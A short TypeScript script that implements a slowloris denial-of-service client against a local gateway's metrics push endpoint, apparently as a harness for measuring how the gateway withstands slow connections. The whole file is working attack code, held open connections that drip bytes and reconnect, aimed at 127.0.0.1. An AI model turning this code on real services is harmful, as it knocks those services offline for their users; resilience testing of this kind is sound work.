// A slowloris attacker, run as its own process so that its sockets do not slow the measuring
// client's event loop: `node slowloris.js <port> <connections>` keeps that many connections
// from 127.0.0.1, each announcing a 10 MB push body and sending 4 bytes every 5 s, and opens a
// new one a second after the gateway closes or refuses one. Every second it prints a JSON line
// {open, closed}.
import { connect } from 'node:net';

const port = Number(process.argv[2]);
const count = Number(process.argv[3]);
let open = 0;
let closed = 0;

function attack(): void {
  const s = connect({ port, host: '127.0.0.1', localAddress: '127.0.0.1' });
  let drip: NodeJS.Timeout | undefined;
  s.on('connect', () => {
    open++;
    s.write(
      'PUT /metrics/job/slow HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\nContent-Length: 10485760\r\n\r\n',
    );
    drip = setInterval(() => s.write('a 1\n'), 5000);
  });
  s.on('data', () => {});
  s.on('error', () => {});
  s.on('close', () => {
    if (drip !== undefined) open--;
    clearInterval(drip);
    closed++;
    setTimeout(attack, 1000);
  });
}

// In batches, so that the listen backlog is not what refuses them.
let started = 0;
const batches = setInterval(() => {
  for (let i = 0; i < 100 && started < count; i++, started++) attack();
  if (started >= count) clearInterval(batches);
}, 20);
setInterval(() => process.stdout.write(JSON.stringify({ open, closed }) + '\n'), 1000);
